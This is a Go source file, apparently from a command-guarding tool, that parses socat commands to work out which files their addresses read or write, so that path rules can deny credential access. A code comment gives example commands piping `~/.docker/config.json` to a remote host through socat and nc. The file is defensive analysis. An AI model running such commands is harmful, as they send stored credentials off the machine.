package analysis

import (
	"errors"
	"io/fs"
	"os"
	"slices"
	"strings"

	"github.com/toolguard/toolguard/paths"
	"github.com/toolguard/toolguard/shell"
)

// socat joins two addresses and copies data between them. An address that
// is a file (OPEN:, GOPEN:, FILE:, CREATE:, PIPE:, or a word with a "/"
// before any ":", which socat opens as GOPEN) is read when data flows out
// of it and written when data flows into it, if a regular file is there
// (socat does not create it; on a socket it connects): both ways by
// default, left to right with -u, right to left with -U. CREATE: and the
// options creat, trunc and append write whatever the direction. So
// `socat -u FILE:~/.docker/config.json TCP:host:9000` reads the credentials
// file the path rules deny, as `nc host 9000 < ~/.docker/config.json`
// does; the network side is connections' (socatAddress).

// socatValueFlags are socat's options that take the next word as a value.
var socatValueFlags = []string{"-b", "-t", "-T", "-S", "-lp", "-lf", "-L", "-W", "-r", "-R"}

// socatFiles judges the files a socat command's addresses open.
func (a *Analysis) socatFiles(c *shell.Command, dir string) {
	if c.Name != "socat" {
		return
	}
	forward, backward := true, true // data flows left → right, right → left
	var addrs []shell.Word
	args := c.Args()
	for i := 0; i < len(args); i++ {
		v := args[i].Value
		switch {
		case v == "-u":
			forward, backward = true, false
		case v == "-U":
			forward, backward = false, true
		case slices.Contains(socatValueFlags, v):
			i++
		case strings.HasPrefix(v, "-") && v != "-":
		default:
			addrs = append(addrs, args[i])
		}
	}
	if len(addrs) != 2 {
		return
	}
	for i, w := range addrs {
		file, writes, ok := socatFile(w.Value)
		if !ok {
			continue
		}
		at := withValue(w, file)
		reads := i == 0 && forward || i == 1 && backward
		writes = writes || (i == 1 && forward || i == 0 && backward) && a.socatWritable(at, dir)
		if reads {
			a.judge.Path(Path{Word: at, Access: paths.Read, Shape: File, Dir: dir})
		}
		if writes {
			a.judge.Path(Path{Word: at, Access: paths.Write, Shape: File, Dir: dir})
		}
	}
}

// socatWritable reports whether data flowing into the file address w
// writes a file: socat opens it without creating it, so a name where
// nothing is fails, and a socket (socat stdio /run/haproxy.sock), a
// device or a pipe there is a connection, not a file written. A regular
// file, or a name that cannot be looked up, is written.
func (a *Analysis) socatWritable(w shell.Word, dir string) bool {
	if !w.Known {
		return true
	}
	cp, err := paths.Canonicalize(w.Value, a.PathEnv(dir), a.ctx.Home)
	if err != nil {
		return true
	}
	fi, err := os.Stat(cp.Resolved)
	switch {
	case errors.Is(err, fs.ErrNotExist):
		return false
	case err != nil:
		return true
	}
	return fi.Mode().IsRegular()
}

// socatFile returns the file a socat address opens, and whether its type
// or options write it whatever the direction (CREATE:, creat, trunc,
// append); ok is false for an address that is no file (TCP:, EXEC:, -,
// STDIO, UNIX-CONNECT: a socket).
func socatFile(addr string) (file string, writes, ok bool) {
	kind, rest, found := strings.Cut(addr, ":")
	if slash := strings.IndexByte(addr, '/'); slash >= 0 && (!found || slash < len(kind)) {
		kind, rest = "GOPEN", addr // a path without a type is opened as GOPEN
	} else if !found {
		return "", false, false
	}
	switch strings.ToUpper(kind) {
	case "OPEN", "GOPEN", "FILE", "PIPE":
	case "CREATE", "CREAT":
		writes = true
	default:
		return "", false, false
	}
	file, opts, _ := strings.Cut(rest, ",")
	for _, o := range strings.Split(opts, ",") {
		name, _, _ := strings.Cut(o, "=")
		switch strings.ToLower(name) {
		case "creat", "create", "trunc", "append", "o-creat", "o-trunc", "o-append":
			writes = true
		}
	}
	return file, writes, file != ""
}
